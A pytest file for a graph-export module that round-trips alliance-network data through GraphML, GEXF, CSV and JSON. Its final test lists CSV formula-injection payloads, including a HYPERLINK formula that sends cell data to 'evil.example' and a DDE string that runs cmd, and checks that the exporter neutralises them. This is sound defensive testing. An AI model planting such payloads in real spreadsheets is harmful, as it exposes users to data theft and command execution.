"""Exports read back by networkx equal what was written (nodes, edges, attributes)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import networkx as nx
import pytest

from app.analytics.export import export, flat_graph, to_csv
from app.analytics.projection import project
from app.errors import InvalidParameter
from app.store import Store
from tests.analytics.conftest import ST

DAY = dt.date(2019, 12, 31)


def _same(read: nx.Graph, written: nx.Graph) -> None:
    assert dict(read.nodes(data=True)) == dict(written.nodes(data=True))
    assert {frozenset(e) for e in read.edges()} == {frozenset(e) for e in written.edges()}
    for u, v, data in written.edges(data=True):
        assert read.edges[u, v] == data


def test_graphml_round_trip(mini: Store) -> None:
    graph = project(mini, None, DAY)
    result = export(mini, "graphml", as_of=DAY)
    assert result.media_type == "application/graphml+xml"
    assert result.filename == "pactgraph-2019-12-31.graphml"
    read = nx.read_graphml(io.BytesIO(result.content))
    _same(read, flat_graph(graph))
    assert read.graph["as_of"] == "2019-12-31"
    relations = read.edges[ST + "KOR", ST + "RUS"]["relations"].split(" ")
    assert relations == ["cooperates_militarily_with", "shares_intelligence_with"]


def test_gexf_round_trip(mini: Store) -> None:
    graph = project(mini, None, DAY)
    read = nx.read_gexf(io.BytesIO(export(mini, "gexf", as_of=DAY).content))
    for _, _, data in read.edges(data=True):
        del data["id"]  # GEXF numbers its edges; not an attribute of ours
    _same(read, flat_graph(graph))


def test_csv_edge_and_node_lists(mini: Store) -> None:
    edges = list(csv.DictReader(io.StringIO(export(mini, "csv", as_of=DAY).content.decode())))
    kor_rus = next(e for e in edges if {e["source_code"], e["target_code"]} == {"KOR", "RUS"})
    assert kor_rus["weight"] == "1" and kor_rus["agreements"].endswith("mini-kor-rus")
    nodes_export = export(mini, "csv", as_of=DAY, table="nodes")
    assert nodes_export.filename == "pactgraph-2019-12-31-nodes.csv"
    nodes = list(csv.DictReader(io.StringIO(nodes_export.content.decode())))
    assert {n["code"]: int(n["degree"]) for n in nodes}["KOR"] == 3


def test_json_node_link_keeps_lists(mini: Store) -> None:
    graph = project(mini, ["shares_intelligence_with"], DAY)
    data = json.loads(export(mini, "json", ["shares_intelligence_with"], DAY).content)
    read = nx.node_link_graph(data, edges="edges")
    assert dict(read.nodes(data=True)) == dict(graph.nodes(data=True))
    assert read.edges[ST + "KOR", ST + "RUS"] == graph.edges[ST + "KOR", ST + "RUS"]


def test_unknown_format_and_table_are_refused(mini: Store) -> None:
    with pytest.raises(InvalidParameter, match="graphml, gexf, csv, json"):
        export(mini, "pajek")
    with pytest.raises(InvalidParameter, match="edges, nodes"):
        export(mini, "csv", table="both")


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "json"])
def test_a_table_is_refused_whatever_the_format(mini: Store, fmt: str) -> None:
    with pytest.raises(InvalidParameter, match="edges, nodes"):
        export(mini, fmt, table="both")


@pytest.mark.parametrize(
    "label",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_a_spreadsheet_would_read_as_formulas_are_neutralised(label: str) -> None:
    graph = nx.Graph()
    graph.add_node("x", code=label, label=label)
    graph.add_node("y", code="Y", label="Why")
    graph.add_edge("x", "y", relations=["allied_with"], agreements=[label], weight=1)
    for table in ("nodes", "edges"):
        rows = list(csv.reader(io.StringIO(to_csv(graph, table).decode(), newline="")))
        cells = [cell for row in rows for cell in row]
        assert label not in cells
        assert "'" + label in cells
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
